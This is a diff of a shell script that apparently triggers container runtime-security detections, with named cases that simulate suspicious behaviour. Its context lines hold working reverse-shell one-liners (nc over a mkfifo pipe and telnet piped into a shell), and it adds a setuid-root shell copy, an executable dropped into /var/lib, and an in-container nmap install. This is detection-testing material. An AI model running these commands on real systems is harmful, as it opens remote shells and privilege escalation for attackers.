@@ -108,6 +108,16 @@ case "$name" in
     /bin/sh -c "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${1:?listener ip} ${2:-4444} > /tmp/f; rm -f /tmp/f" ;;
   revshell-telnet)   # telnet-style: commands from telnet piped into a shell
     telnet "${1:?listener ip}" "${2:-4444}" | /bin/sh ;;
+  # ---- runtime baseline (drift, sessions, packages) ----
+  drop-exec)         # a program copied in after start (as a download would), made executable and run from /var/lib
+    mkdir -p /var/lib/kwdrop && cp /bin/busybox /var/lib/kwdrop/true && chmod 0755 /var/lib/kwdrop/true
+    /var/lib/kwdrop/true && rm -rf /var/lib/kwdrop ;;
+  setuid-bit)        # a root shell kept for later: a copy of the shell with the setuid bit
+    cp /bin/busybox /tmp/.kwsh && chmod 4755 /tmp/.kwsh && ls -l /tmp/.kwsh && rm -f /tmp/.kwsh ;;
+  pkg-install)       # a package manager run in the running container (the image's apk stand-in refuses the command)
+    apk add --no-cache nmap || echo "apk refused" ;;
+  app-dirs)          # benign: an entrypoint making its data and cache directories searchable (chmod of directories)
+    mkdir -p /tmp/app/cache /tmp/app/data && chmod 0755 /tmp/app/cache && chmod 0750 /tmp/app/data && ls -ld /tmp/app/* ;;
   # ---- stale containers ----
   long-lived)
     sleep "${1:-600}" ;;
